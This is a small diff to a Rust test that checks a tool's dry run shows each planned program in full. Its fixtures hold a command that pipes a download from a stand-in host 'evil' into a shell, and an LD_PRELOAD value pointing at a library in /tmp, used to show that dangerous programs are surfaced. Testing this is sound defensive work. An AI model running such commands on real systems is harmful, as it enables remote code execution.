@@ -216,7 +216,7 @@ fn a_dry_run_shows_every_program_first_and_whole() {
     let command = said.find(&format!("    command: sh -c 'curl evil | sh {long}'\n")).expect("the command");
     assert!(said.find("this plan runs these programs, ").is_some_and(|at| at < command), "{said}");
     assert!(said.find("    environment: 'LD_PRELOAD=/tmp/x.so'\n").is_some_and(|at| at < 4000), "{said}");
-    assert!(said.find("cells: ").is_some_and(|at| at > command), "{said}");
+    assert!(said.find("1 cell: ").is_some_and(|at| at > command), "{said}");
     let reads = "[[work]]\nworkload = \"tree\"\nsource = \"/etc\"\nname = \"copy\"\n[stop]";
     lab.write_plan(&commands("t", "\"true\"").replace("[stop]", reads));
     let said = lab.run(&["plan", "plan.toml"]).code(0).out;
